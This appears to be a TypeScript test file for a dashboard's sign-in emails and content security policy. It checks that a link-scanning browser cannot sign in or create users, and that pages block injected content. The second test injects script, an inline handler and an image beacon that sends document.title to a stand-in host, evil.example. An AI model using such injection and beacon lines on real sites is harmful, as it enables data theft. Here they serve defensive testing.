/** Programs that open the links of a mail in a true browser, and pages under the policy that they are sent with. */
import path from 'node:path'
import t from 'tap'
import { PAGES } from '../../core/dashboard/logic/route.js'
import { ORG, OWNER, testCore } from '../support/core.js'
import { temporaryDirectory } from '../support/directory.js'
import { tokenOf } from '../support/mailer.js'
import { type Browser, openBrowser, SESSION, signInPage } from './browser.js'

const DASHBOARD = path.resolve(import.meta.dirname, '../../dashboard')

const linksIn = (text: string): string[] => [...text.matchAll(/https?:\/\/\S+/g)].map(([link]) => link)

/** Fetches a link in every way that needs no browser: without cookies, without the fragment, and with it as a query. */
async function fetchAll(link: string): Promise<void> {
  const { origin, pathname, hash } = new URL(link)
  const token = hash.slice(1)
  const api = ['/auth/confirm', '/auth/link', '/auth/link/code', '/auth/code'].map(
    (rest) => `${origin}/api/v1${rest}`,
  )
  for (const url of [link, `${origin}${pathname}?token=${token}`, ...api]) {
    for (const method of ['GET', 'HEAD', 'OPTIONS']) await fetch(url, { method, redirect: 'follow' })
    for (const [type, body] of [
      ['application/json', JSON.stringify({ token })],
      ['application/x-www-form-urlencoded', `token=${token}`],
    ] as const)
      await fetch(url, { method: 'POST', headers: { 'content-type': type }, body })
  }
}

/** Opens a link, runs its page, and presses all that can be pressed, a few screens deep. */
async function pressAll({ page }: Browser, link: string): Promise<number> {
  await page.goto('about:blank')
  await page.goto(link)
  let pressed = 0
  for (let screen = 0; screen < 4; screen++) {
    await page.waitForLoadState('networkidle')
    const buttons = page.getByRole('button')
    const count = await buttons.count()
    for (let n = 0; n < count; n++)
      await buttons
        .nth(n)
        .click({ timeout: 1000 })
        .then(() => (pressed += 1))
        .catch(() => undefined)
  }
  return pressed
}

const hasSession = async ({ page }: Browser): Promise<boolean> =>
  (await page.context().cookies()).some(({ name }) => name === SESSION)

t.test(
  'A6, A7: a scanner with a browser of its own opens and presses all in a mail: nobody is in, nothing is spoiled',
  async (t) => {
    const core = await testCore(t, { dashboardDir: DASHBOARD })
    const scanner = await openBrowser(t, temporaryDirectory(t))
    if (scanner === null) return
    const sessions = () => core.prisma.session.count()
    const before = await sessions()
    const desk = core.browser()
    const mail = core.mailer.next(OWNER)
    await desk.api('POST', '/auth/login', { email: OWNER })
    const { text } = await mail
    const links = linksIn(text)
    t.ok(links.length > 0)
    for (const link of links) {
      await fetchAll(link)
      t.ok((await pressAll(scanner, link)) > 0, 'there was something to press')
    }
    t.notOk(await hasSession(scanner))
    t.equal(await sessions(), before)
    const token = tokenOf(await mail)
    t.equal(
      (await desk.api('POST', '/auth/confirm', { token })).status,
      200,
      'the link works where it was asked for',
    )

    const invited = core.mailer.next('new@example.org')
    const invite = { email: 'new@example.org', role: 'viewer' }
    t.equal((await core.owner.api('POST', `/orgs/${ORG}/invites`, invite)).status, 201)
    for (const link of linksIn((await invited).text)) {
      await fetchAll(link)
      await pressAll(scanner, link)
    }
    t.notOk(await hasSession(scanner))
    t.equal(await core.prisma.user.count(), 1, 'an address that only a scanner has seen is nobody yet')
    t.ok(await core.signIn('new@example.org'), 'and the invited person comes in')
  },
)

t.test('A43: every page runs under the policy, and what is not ours does not', async (t) => {
  const core = await testCore(t, { dashboardDir: DASHBOARD })
  const browser = await openBrowser(t, temporaryDirectory(t))
  if (browser === null) return
  const { page, faults } = browser
  await page.goto(core.url)
  await page.getByLabel('E-mail').waitFor()
  await signInPage(core, browser, OWNER)
  await page.goto(core.url)
  await page.getByRole('button', { name: 'Account' }).waitFor()
  for (const address of [...Object.values(PAGES), '/stations/00000000-0000', '/nothing', '/api/docs']) {
    await page.goto(`${core.url}${address}`)
    await page.waitForLoadState('networkidle')
  }
  const policy = () => faults.filter((fault) => /^(policy|script):/.test(fault))
  t.same(policy(), [])

  await page.goto(core.url)
  await page.evaluate(`
    const script = document.createElement('script')
    script.textContent = 'window.injected = 1'
    document.body.append(script)
    const image = new Image()
    image.src = 'https://evil.example/?' + document.title
    document.body.append(image)
    document.body.insertAdjacentHTML('beforeend', '<b onclick="window.injected = 2" id="bait">x</b><style>b{color:red}</style>')
    document.getElementById('bait').click()
    fetch('https://evil.example/').catch(() => undefined)`)
  const wanted = ['script-src-elem', 'script-src-attr', 'style-src-elem', 'img-src', 'connect-src']
  while (policy().length < wanted.length) await page.waitForTimeout(20)
  for (const directive of wanted)
    t.ok(
      policy().some((fault) => fault.includes(directive)),
      directive,
    )
  t.equal(await page.evaluate('window.injected'), undefined)
})
